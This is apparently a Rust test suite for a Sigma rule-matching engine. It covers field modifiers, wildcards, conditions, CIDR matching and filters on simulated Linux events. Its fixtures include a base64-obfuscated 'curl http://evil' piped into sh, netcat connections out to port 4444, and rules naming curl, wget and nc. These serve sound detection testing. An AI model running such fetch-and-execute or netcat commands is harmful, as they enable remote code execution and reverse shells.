//! Sigma detection semantics (modifiers, wildcards, conditions, filters) through our accessor.

use serde_json::{Value, json};

use super::{engine, exec, net, run};

fn rule(detection: &str) -> String {
    format!(
        "title: t\nid: 00000000-0000-0000-0000-0000000000aa\nlogsource: {{product: linux, category: process_creation}}\ndetection:\n{detection}\n"
    )
}

fn matches(detection: &str, event: &Value) -> bool {
    let mut e = engine(&rule(detection));
    !run(&mut e, std::slice::from_ref(event)).is_empty()
}

fn ev(exe: &str, cmd: &str) -> Value {
    exec(
        0.0,
        5,
        exe,
        cmd,
        json!({"process": {"working_directory": "/tmp"}}),
    )
}

#[test]
fn modifiers_and_wildcards() {
    let curl = ev("/usr/bin/curl", "curl -o /tmp/x http://198.51.100.7/a");
    let cases: &[(&str, bool)] = &[
        ("  s: {Image: /USR/BIN/CURL}\n  condition: s", true),
        ("  s: {Image|cased: /USR/BIN/CURL}\n  condition: s", false),
        ("  s: {Image: '*/cu?l'}\n  condition: s", true),
        ("  s: {Image: '*/cu\\?l'}\n  condition: s", false),
        (
            "  s: {CommandLine|contains|all: ['-o', 'http']}\n  condition: s",
            true,
        ),
        (
            "  s: {CommandLine|contains|all: ['-o', 'https']}\n  condition: s",
            false,
        ),
        (
            "  s: {CommandLine|startswith: 'curl -o'}\n  condition: s",
            true,
        ),
        (
            "  s: {CommandLine|re: '^curl\\s+-o\\s'}\n  condition: s",
            true,
        ),
        ("  s: {CommandLine|re|i: '^CURL'}\n  condition: s", true),
        ("  s: {CommandLine|re: '^CURL'}\n  condition: s", false),
        ("  s: {ProcessId|gt: 4}\n  condition: s", true),
        ("  s: {ProcessId|lte: 4}\n  condition: s", false),
        ("  s: {CurrentDirectory|exists: true}\n  condition: s", true),
        ("  s: {LogonId|exists: true}\n  condition: s", false),
        ("  s: {LogonId: null}\n  condition: s", true),
        // windash: `/o` also matches the `-o` spelling.
        (
            "  s: {CommandLine|windash|contains: ' /o '}\n  condition: s",
            true,
        ),
        (
            "  s: {CommandLine|windash|contains: ' /x '}\n  condition: s",
            false,
        ),
        (
            "  s: {CommandLine|windash|contains: ' -o '}\n  condition: s",
            true,
        ),
        (
            "  s: {CommandLine|base64offset|contains: 'curl'}\n  condition: s",
            false,
        ),
        (
            "  s: {Image|fieldref: process.executable}\n  condition: s",
            true,
        ),
        ("  s: {Image|fieldref: CommandLine}\n  condition: s", false),
        (
            "  a: {Image|endswith: /curl}\n  b: {CommandLine|contains: wget}\n  condition: a and not b",
            true,
        ),
        (
            "  a: {Image|endswith: /curl}\n  b: {CommandLine|contains: wget}\n  condition: 1 of them and b",
            false,
        ),
        (
            "  sel_a: {Image|endswith: /curl}\n  sel_b: {CommandLine|contains: http}\n  condition: all of sel_*",
            true,
        ),
        (
            "  sel_a: {Image|endswith: /wget}\n  sel_b: {CommandLine|contains: http}\n  condition: 1 of sel_*",
            true,
        ),
        (
            "  sel_a: {Image|endswith: /wget}\n  sel_b: {CommandLine|contains: http}\n  condition: all of them",
            false,
        ),
        (
            "  s:\n    - Image|endswith: /wget\n    - CommandLine|contains: '198.51'\n  condition: s",
            true,
        ),
        ("  k:\n    - '198.51.100.7'\n  condition: k", true),
        ("  k:\n    - 'not-in-event'\n  condition: k", false),
        (
            "  s: {Image|endswith: [/wget, /curl]}\n  condition: (s or s) and not (not s)",
            true,
        ),
    ];
    for (detection, expected) in cases {
        assert_eq!(matches(detection, &curl), *expected, "{detection}");
    }
    let b64 = ev(
        "/usr/bin/bash",
        "bash -c echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh",
    );
    assert!(matches(
        "  s: {CommandLine|base64offset|contains: 'curl http'}\n  condition: s",
        &b64
    ));
    assert!(matches(
        "  s: {CommandLine|base64|contains: 'curl http://evil'}\n  condition: s",
        &b64
    ));
}

#[test]
fn cidr_on_network_events() {
    let r = "title: c\nid: 00000000-0000-0000-0000-0000000000bb\nlogsource: {product: linux, category: network_connection}\ndetection:\n  s: {DestinationIp|cidr: 198.51.100.0/24, Initiated: 'true'}\n  condition: s\n";
    let mut e = engine(r);
    let alerts = run(
        &mut e,
        &[
            net(
                0.0,
                1,
                "/usr/bin/nc",
                true,
                ("198.51.100.7", 4444),
                json!({}),
            ),
            net(
                1.0,
                1,
                "/usr/bin/nc",
                true,
                ("203.0.113.7", 4444),
                json!({}),
            ),
            net(
                2.0,
                1,
                "/usr/bin/nc",
                false,
                ("198.51.100.7", 4444),
                json!({}),
            ),
        ],
    );
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0]["destination"]["ip"], "198.51.100.7");
}

#[test]
fn category_prunes_other_events_and_filters_tune_rules() {
    // A process_creation rule never sees network events even when fields would match.
    let mut e = engine(&rule("  s: {Image|endswith: /nc}\n  condition: s"));
    assert!(
        run(
            &mut e,
            &[net(
                0.0,
                1,
                "/usr/bin/nc",
                true,
                ("198.51.100.7", 1),
                json!({})
            )]
        )
        .is_empty()
    );
    // A Sigma v2 filter removes a known false positive without editing the rule.
    let text = format!(
        "{}---\ntitle: ignore backup host\nfilter:\n  rules:\n    - 00000000-0000-0000-0000-0000000000aa\n  selection:\n    User: backup\n  condition: not selection\nlogsource: {{product: linux, category: process_creation}}\n",
        rule("  s: {Image|endswith: /curl}\n  condition: s")
    );
    let mut e = engine(&text);
    let mine = ev("/usr/bin/curl", "curl x");
    let theirs = exec(
        1.0,
        6,
        "/usr/bin/curl",
        "curl x",
        json!({"user": {"name": "backup"}}),
    );
    let alerts = run(&mut e, &[mine, theirs]);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0]["process"]["pid"], 5);
}
